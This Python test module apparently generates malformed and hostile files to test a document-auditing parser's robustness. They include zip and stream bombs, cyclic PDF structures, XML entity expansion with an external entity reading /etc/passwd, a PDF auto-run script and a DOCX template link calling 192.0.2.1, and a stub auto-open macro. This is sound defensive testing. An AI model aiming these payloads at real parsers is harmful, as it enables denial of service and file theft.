"""Files that somebody made to harm a program that reads them. Each is made here, so that nothing harmful is kept."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

EXAMPLES = Path(__file__).parent.parent.parent / "example_data"
LINE = "2023年度收入总计120.00万元，其中：财政拨款收入100.00万元，其他收入20.00万元。"


# --- PDF -----------------------------------------------------------------------------------------------------------


def pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF of these objects, numbered from 1."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for place in places:
        out.write(b"%010d 00000 n \n" % place)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, start))
    return out.getvalue()


def stream(data: bytes, more: bytes = b"") -> bytes:
    packed = zlib.compress(data, 9)
    return b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n%s\nendstream" % (len(packed), more, packed)


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def pages_of(number: int, content: bytes = b"BT /F1 12 Tf 72 700 Td (Total 120.00) Tj ET", more: bytes = b"") -> bytes:
    kids = b" ".join(b"%d 0 R" % (5 + page) for page in range(number))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 3 0 R >> %s >> >>"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count %d /Kids [%s] >>" % (number, kids),
        _FONT,
        stream(content),
        *[page % more] * number,
    ]
    return pdf(objects)


def truncated_pdf() -> bytes:
    data = (EXAMPLES / "final-accounts" / "clean.pdf").read_bytes()
    return data[: len(data) // 2]


def truncated_pdf_with_end() -> bytes:
    return truncated_pdf() + b"\n%%EOF\n"


def cyclic_pages() -> bytes:
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 1000000 /Kids [2 0 R 3 0 R] /Parent 3 0 R >>",
            b"<< /Type /Pages /Count 1000000 /Kids [2 0 R 3 0 R] /Parent 2 0 R >>",
        ]
    )


def cyclic_form() -> bytes:
    """A form that draws itself."""
    form = stream(
        b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    )
    data = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [5 0 R] >>",
        _FONT,
        stream(b"/X Do BT /F1 12 Tf 72 700 Td (Total 120.00) Tj ET"),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 3 0 R >> /XObject << /X 6 0 R >> >> >>",
        form,
    ]
    return pdf(data)


def many_pages() -> bytes:
    return pages_of(10_000)


def claimed_pages() -> bytes:
    """A few bytes that claim two thousand million pages."""
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 2000000000 /Kids [] >>"])


def crowded_page() -> bytes:
    """A quarter of a million characters on one page, from a few kilobytes."""
    return pages_of(1, b"BT /F1 1 Tf 72 700 Td " + b"(12345 67890) Tj " * 20_000 + b"ET")


def ruled_page() -> bytes:
    """Fifty thousand ruled lines, each a cell's edge."""
    lines = b"".join(b"%d %d m %d %d l S " % (20 + i % 500, 30, 20 + i % 500, 800) for i in range(25_000))
    lines += b"".join(b"20 %d m 560 %d l S " % (30 + i % 770, 30 + i % 770) for i in range(25_000))
    return pages_of(1, lines + b"BT /F1 12 Tf 72 700 Td (Total 120.00) Tj ET")


def giant_image() -> bytes:
    """A picture of 60,000 × 60,000 points in a few kilobytes."""
    image = stream(
        bytes(1000),
        b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8",
    )
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 1 /Kids [5 0 R] >>",
            _FONT,
            stream(b"q 500 0 0 500 0 0 cm /X Do Q BT /F1 12 Tf 72 700 Td (Total 120.00) Tj ET"),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            b" /Resources << /Font << /F1 3 0 R >> /XObject << /X 6 0 R >> >> >>",
            image,
        ]
    )


def stream_bomb() -> bytes:
    """Content that unpacks to 60 megabytes of white space."""
    return pages_of(1, b" " * 60_000_000 + b"BT /F1 12 Tf 72 700 Td (Total 120.00) Tj ET")


def giant_page() -> bytes:
    return pages_of(1).replace(b"[0 0 595 842]", b"[0 0 9e9 9e9]")


def encrypted_pdf() -> bytes:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pages_of(1)))
    writer.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_attachment_and_script() -> bytes:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=EXAMPLES / "final-accounts" / "clean.pdf")
    writer.add_attachment("evil.pdf", b"%PDF-1.4 evil")
    writer.root_object[pypdf.generic.NameObject("/OpenAction")] = pypdf.generic.DictionaryObject(
        {
            pypdf.generic.NameObject("/S"): pypdf.generic.NameObject("/JavaScript"),
            pypdf.generic.NameObject("/JS"): pypdf.generic.TextStringObject("app.launchURL('http://192.0.2.1/')"),
        }
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --- Office --------------------------------------------------------------------------------------------------------


def repacked(name: str, change: Callable[[str, bytes], bytes | None], more: dict[str, bytes] | None = None) -> bytes:
    """An example with changed members."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(EXAMPLES / "final-accounts" / name) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for member in source.namelist():
            content = change(member, source.read(member))
            if content is not None:
                target.writestr(member, content)
        for member, content in (more or {}).items():
            target.writestr(member, content)
    return out.getvalue()


def zip_bomb() -> bytes:
    return repacked("clean.docx", lambda _, data: data, {"word/media/image1.xml": bytes(700_000_000)})


def lying_zip_bomb() -> bytes:
    """Its directory says that the member is small."""
    data = bytearray(repacked("clean.docx", lambda name, data: _swollen(data) if name == "word/document.xml" else data))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as package:
        size = package.getinfo("word/document.xml").file_size.to_bytes(4, "little")
    return bytes(data).replace(size, (5000).to_bytes(4, "little"))


def _swollen(data: bytes) -> bytes:
    return data.replace(b"</w:body>", b" " * 300_000_000 + b"</w:body>")


def entities(name: str, member: str) -> bytes:
    """A member with entities that swell, and one that names a file."""
    doctype = (
        b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
    )

    def change(each: str, data: bytes) -> bytes:
        if each != member:
            return data
        head, mark, rest = data.partition(b"?>")
        return head + mark + doctype + rest

    return repacked(name, change)


def late_entities() -> bytes:
    """A declaration behind more white space than a look at the beginning sees."""
    plain = entities("clean.docx", "word/document.xml")
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.namelist():
            data = source.read(member)
            data = data.replace(b"<!DOCTYPE", b" " * 5000 + b"<!DOCTYPE") if member == "word/document.xml" else data
            target.writestr(member, data.replace(b"<w:t>", b"<w:t>&f;&c;", 1))
    return out.getvalue()


def deep_xml() -> bytes:
    deep = b"<w:tbl><w:tr><w:tc>" * 20_000 + b"</w:tc></w:tr></w:tbl>" * 20_000

    def change(name: str, data: bytes) -> bytes:
        return data.replace(b"</w:body>", deep + b"</w:body>") if name == "word/document.xml" else data

    return repacked("clean.docx", change)


def external_links() -> bytes:
    link = (
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        b' Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'
    )
    return repacked(
        "clean.docx", lambda name, data: data.replace(b"</Relationships>", link) if name.endswith(".rels") else data
    )


def with_macros() -> bytes:
    return repacked("clean.docx", lambda _, data: data, {"word/vbaProject.bin": b"Auto_Open: Shell calc"})


def far_cell(row: bytes) -> bytes:
    row += b"</sheetData>"
    return repacked(
        "clean.xlsx", lambda name, data: data.replace(b"</sheetData>", row) if "sheet1.xml" in name else data
    )


def wide_sheet() -> bytes:
    """One cell at the far end of a worksheet."""
    return far_cell(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


def wide_sheet_of_text() -> bytes:
    """The same with words in it, which are no value."""
    return far_cell(b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>')


def beyond_the_sheet() -> bytes:
    """A cell in a column that no worksheet has."""
    return far_cell(b'<row r="1048576"><c r="AAAAAAAAA1048576"><v>1</v></c></row>')


def far_row() -> bytes:
    """A cell that does not say where it stands, in the last row that a number can name."""
    return far_cell(b'<row r="4294967290"><c><v>1</v></c><c><v>1</v></c></row>')


def wide_spans() -> bytes:
    """Merged cells over the whole worksheet."""
    merged = b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    return repacked(
        "clean.xlsx", lambda name, data: data.replace(b"</sheetData>", merged) if "sheet1.xml" in name else data
    )


# --- web pages -----------------------------------------------------------------------------------------------------


def deep_html() -> bytes:
    return ("<html><body>" + "<div>" * 200_000 + LINE + "</div>" * 200_000).encode()


def deep_tables() -> bytes:
    return ("<html><body>" + "<table><tr><td>" * 3_000 + LINE + "</td></tr></table>" * 3_000).encode()


def spanning_html() -> bytes:
    cell = '<td rowspan="65000" colspan="1000">1</td>'
    return f"<html><body><table><tr>{cell * 50}</tr><tr>{cell * 50}</tr></table><p>{LINE}</p>".encode()


def scripted_html() -> bytes:
    return f"<html><script>fetch('http://192.0.2.1/')</script><body onload='x()'><img src='http://192.0.2.1/a.png'><p>{LINE}</p>".encode()


# --- text ----------------------------------------------------------------------------------------------------------


def million_digits() -> bytes:
    return f"2023年度收入总计{'9' * 1_000_000}万元，其中：财政拨款收入100.00万元，其他收入20.00万元。".encode()


def million_decimals() -> bytes:
    return f"2023年度收入总计1.{'9' * 1_000_000}万元，比上年增加{'1,' * 100_000}1万元，增长5%。".encode()


def long_digits() -> bytes:
    return f"2023年度收入总计{'9' * 150_000}万元，其中：财政拨款收入1{',234' * 10_000}万元，其他收入20.00{' ' * 20_000}万元。".encode()


def one_long_line() -> bytes:
    return (LINE * (10_000_000 // len(LINE.encode()) + 1)).encode()


def one_long_word() -> bytes:
    return ("收" * 3_400_000).encode()


def one_long_space() -> bytes:
    return ("收入" + " " * 10_000_000 + "120万元").encode()


def nul_text() -> bytes:
    return LINE.encode() + b"\0" * 1000


def mixed_encodings() -> bytes:
    return LINE.encode("utf-8") + b"\n" + LINE.encode("gb18030") + b"\n" + LINE.encode("big5", "ignore")


def bidi_text() -> bytes:
    return LINE.replace("120", "\u202e021\u202c").replace("100", "1\u200b00").encode()


def brackets() -> bytes:
    return ("收入" + "（" * 200_000 + "120万元" + "）" * 200_000).encode()


def many_short_lines() -> bytes:
    return ("一、收入\n" * 30_000).encode()


def tabs() -> bytes:
    return ("\t" * 3_000_000 + "\n" + "\t" * 3_000_000).encode()


def wide_csv() -> bytes:
    return (",".join(["1"] * 1_000_000) + "\n").encode()


def deep_json() -> bytes:
    return ("[" * 500_000 + "]" * 500_000).encode()


def huge_json_number() -> bytes:
    return b'{"schema": "auditor.document", "version": ' + b"9" * 1_000_000 + b"}"


CASES: list[tuple[str, Callable[[], bytes]]] = [
    (".pdf", truncated_pdf),
    (".pdf", truncated_pdf_with_end),
    (".pdf", cyclic_pages),
    (".pdf", cyclic_form),
    (".pdf", many_pages),
    (".pdf", claimed_pages),
    (".pdf", crowded_page),
    (".pdf", ruled_page),
    (".pdf", giant_image),
    (".pdf", stream_bomb),
    (".pdf", giant_page),
    (".pdf", encrypted_pdf),
    (".pdf", pdf_with_attachment_and_script),
    (".docx", zip_bomb),
    (".docx", lying_zip_bomb),
    (".docx", late_entities),
    (".docx", deep_xml),
    (".docx", external_links),
    (".docx", with_macros),
    (".xlsx", wide_sheet),
    (".xlsx", wide_sheet_of_text),
    (".xlsx", beyond_the_sheet),
    (".xlsx", far_row),
    (".xlsx", wide_spans),
    (".html", deep_html),
    (".html", deep_tables),
    (".html", spanning_html),
    (".html", scripted_html),
    (".txt", million_digits),
    (".txt", million_decimals),
    (".txt", long_digits),
    (".txt", one_long_line),
    (".txt", one_long_word),
    (".txt", one_long_space),
    (".txt", nul_text),
    (".txt", mixed_encodings),
    (".txt", bidi_text),
    (".txt", brackets),
    (".txt", many_short_lines),
    (".txt", tabs),
    (".csv", wide_csv),
    (".json", deep_json),
    (".json", huge_json_number),
]
